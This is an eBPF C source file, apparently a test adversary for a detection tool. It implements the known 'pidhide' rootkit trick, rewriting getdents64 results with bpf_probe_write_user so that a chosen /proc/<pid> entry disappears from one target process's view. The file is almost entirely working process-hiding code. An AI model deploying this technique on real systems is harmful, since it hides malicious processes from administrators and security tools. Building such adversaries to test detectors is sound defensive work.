// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * test_rootkit_hide.bpf.c — a TEST ADVERSARY, never part of the agent.
 *
 * The classic BPF rootkit trick (bad-bpf "pidhide"): on sys_exit_getdents64
 * it rewrites the caller's dirent buffer with bpf_probe_write_user so that
 * the entry named cfg_hide_name (a pid, i.e. /proc/<pid>) disappears — the
 * previous record's d_reclen swallows it.
 *
 * Scoped, never global: it touches only getdents64 calls made by the process
 * whose tgid is cfg_target_tgid (the test's scanner), and does nothing at all
 * while cfg_target_tgid is 0.  Tests attach it in try/finally.
 *
 * Under lockdown=integrity the kernel refuses bpf_probe_write_user at load
 * (LOCKDOWN_BPF_WRITE_USER): on such a host this object does not load.
 *
 * The walk state lives in the per-thread map value, NOT on the stack: a
 * kernel without "bpf: verify callbacks as if they are called unknown number
 * of times" (upstream 6.7; absent from 6.1.y, e.g. Debian 12's 6.1.0-x)
 * verifies a bpf_loop callback exactly once, with the caller's stack as it is
 * before the first iteration.  A zero-initialised stack struct makes
 * have_prev a known 0 there, so the "hide this entry" branch is never
 * explored, and the verifier then deletes it as dead code (privileged load):
 * the program loads, attaches, walks — and can never hide anything.  Values
 * loaded from a map are unknown to the verifier, so every branch survives.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

char LICENSE[] SEC("license") = "GPL";

const volatile __u32 cfg_target_tgid = 0;
const volatile char cfg_hide_name[16] = {};
const volatile __u32 cfg_hide_len = 0;   /* strlen(cfg_hide_name), 1..15 */

/* Diagnostics for the test: [0] entries hidden, [1] last bpf_probe_write_user result. */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 2);
	__type(key, __u32);
	__type(value, __s64);
} rk_stat SEC(".maps");

struct rk_walk {
	__u64 dirp;       /* user dirent buffer (sys_enter args[1]) */
	__u64 total;      /* bytes filled (sys_exit ret) */
	__u64 pos;
	__u64 prev;
	__u32 have_prev;
	__u32 done;
};

/* pid_tgid -> walk state of that thread's getdents64 in flight (see header). */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 64);
	__type(key, __u64);
	__type(value, struct rk_walk);
} rk_bufs SEC(".maps");

#define RK_MAX_ENTRIES 4096   /* a 32 KiB glibc readdir buffer holds < 1400 records */

SEC("tracepoint/syscalls/sys_enter_getdents64")
int rk_enter(struct trace_event_raw_sys_enter *ctx)
{
	__u64 id = bpf_get_current_pid_tgid();
	struct rk_walk w = {};

	if (!cfg_target_tgid || (id >> 32) != cfg_target_tgid)
		return 0;
	w.dirp = ctx->args[1];
	bpf_map_update_elem(&rk_bufs, &id, &w, BPF_ANY);
	return 0;
}

static long rk_step(__u64 i, __u64 *id)
{
	struct rk_walk *w = bpf_map_lookup_elem(&rk_bufs, id);
	/* struct linux_dirent64: u64 d_ino; s64 d_off; u16 d_reclen; u8 d_type; char d_name[] */
	unsigned short reclen = 0;
	char name[16] = {};

	if (!w || w->pos >= w->total)
		return 1;
	if (bpf_probe_read_user(&reclen, sizeof(reclen), (void *)(w->dirp + w->pos + 16)) || !reclen)
		return 1;
	bpf_probe_read_user_str(name, sizeof(name), (void *)(w->dirp + w->pos + 19));
	if (w->have_prev) {
		bool same = true;

		for (int k = 0; k < 16; k++) {
			if (k > cfg_hide_len)
				break;
			if (k == cfg_hide_len) {
				if (name[k] != 0)
					same = false;
				break;
			}
			if (name[k] != cfg_hide_name[k]) {
				same = false;
				break;
			}
		}
		if (same) {
			unsigned short prevlen = 0;

			if (bpf_probe_read_user(&prevlen, sizeof(prevlen), (void *)(w->dirp + w->prev + 16)))
				return 1;
			prevlen += reclen;
			__s64 rc = bpf_probe_write_user((void *)(w->dirp + w->prev + 16), &prevlen, sizeof(prevlen));
			__u32 k0 = 0, k1 = 1;
			__s64 *v = bpf_map_lookup_elem(&rk_stat, &k0);

			if (v)
				__sync_fetch_and_add(v, 1);
			v = bpf_map_lookup_elem(&rk_stat, &k1);
			if (v)
				*v = rc;
			w->done = 1;
			return 1;
		}
	}
	w->prev = w->pos;
	w->have_prev = 1;
	w->pos += reclen;
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int rk_exit(struct trace_event_raw_sys_exit *ctx)
{
	__u64 id = bpf_get_current_pid_tgid();
	struct rk_walk *w;

	if (!cfg_target_tgid || (id >> 32) != cfg_target_tgid)
		return 0;
	w = bpf_map_lookup_elem(&rk_bufs, &id);
	if (!w)
		return 0;
	if (ctx->ret > 0) {
		w->total = ctx->ret;
		w->pos = 0;
		w->have_prev = 0;
		w->done = 0;
		bpf_loop(RK_MAX_ENTRIES, rk_step, &id, 0);
	}
	bpf_map_delete_elem(&rk_bufs, &id);
	return 0;
}
